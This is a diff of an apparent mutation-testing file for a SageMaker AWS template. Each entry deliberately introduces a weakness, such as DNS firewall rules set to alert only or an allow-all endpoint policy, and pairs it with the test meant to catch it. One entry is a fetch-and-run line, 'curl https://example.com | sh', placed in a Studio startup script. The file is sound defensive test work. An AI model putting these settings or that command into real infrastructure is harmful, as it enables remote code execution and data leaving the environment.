@@ -52,6 +52,7 @@ ENDPOINT, GROUP, LOGS, TARGET = (
 )
 PIPELINE, BODY = "AWS::SageMaker::Pipeline", "PipelineDefinition.PipelineDefinitionBody"
 POLICY = "AWS::ApplicationAutoScaling::ScalingPolicy"
+RULES = "AWS::Route53Resolver::FirewallRuleGroup"
 ROLE, VARIANT = "AWS::IAM::Role", "ProductionVariants.0"
 UPDATE = "DeploymentConfig.BlueGreenUpdatePolicy"
 WORKGROUP = "WorkGroupConfiguration"
@@ -84,6 +85,14 @@ WEAKNESSES = (
             test_network.test_the_network_of_every_vpc_is_logged),
     Mistake("the default group is emptied once a month", NETWORK, put("AWS::SSM::Association", "ScheduleExpression", "rate(30 days)"),
             test_network.test_the_default_security_group_of_every_vpc_is_emptied_every_day),
+    Mistake("every name is resolved", NETWORK, put(RULES, "FirewallRules.1.Action", "ALERT"),
+            test_network.test_a_dns_firewall_answers_for_the_names_behind_the_vpc_endpoints_and_for_no_others),
+    Mistake("names that anybody can register are resolved", NETWORK, put("AWS::Route53Resolver::FirewallDomainList", "Domains.0", "*aws.com"),
+            test_network.test_a_dns_firewall_answers_for_the_names_behind_the_vpc_endpoints_and_for_no_others),
+    Mistake("names are filtered for one kind of question only", NETWORK, put(RULES, "FirewallRules.1.Qtype", "A"),
+            test_network.test_a_dns_firewall_answers_for_the_names_behind_the_vpc_endpoints_and_for_no_others),
+    Mistake("names are filtered for no network", NETWORK, remove("AWS::Route53Resolver::FirewallRuleGroupAssociation"),
+            test_network.test_where_dns_firewall_is_asked_for_every_vpc_has_one_and_its_questions_are_logged),
     Mistake("an endpoint of a service without a policy", NETWORK, put("AWS::EC2::VPCEndpoint", "PolicyDocument", {"Statement": []}),
             test_network.test_every_vpc_endpoint_has_a_policy),
     Mistake("data may leave to buckets of others", NETWORK, put("AWS::EC2::VPCEndpoint", "PolicyDocument", {"Statement": [{"Sid": "All", "Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}),
@@ -246,6 +255,8 @@ WEAKNESSES = (
     # Studio, catalog, cost, names
     Mistake("newcomers are data scientists", STUDIO, put(DOMAIN, "DefaultUserSettings.ExecutionRole", "arn:aws:iam::111111111111:role/dev-data-scientist"),
             test_studio.test_whoever_has_no_profile_gets_a_role_that_reaches_nothing),
+    Mistake("everybody reads what Studio says of every domain", STUDIO, statement("KeepLogsOfStudio", Resource="arn:aws:logs:us-east-1:111111111111:log-group:/aws/sagemaker/studio:log-stream:*"),
+            test_permissions.test_names_left_open_are_limited_to_a_prefix_of_this_environment),
     Mistake("a space starts with another script", STUDIO, put("AWS::SageMaker::StudioLifecycleConfig", "StudioLifecycleConfigContent", {"Fn::Base64": "#!/bin/bash\ncurl https://example.com | sh"}),
             test_studio.test_a_space_starts_with_the_script_of_this_repository_and_nothing_else),
     Mistake("apps are never shut down", STUDIO, put(DOMAIN, "DefaultUserSettings.JupyterLabAppSettings.AppLifecycleManagement", ABSENT),
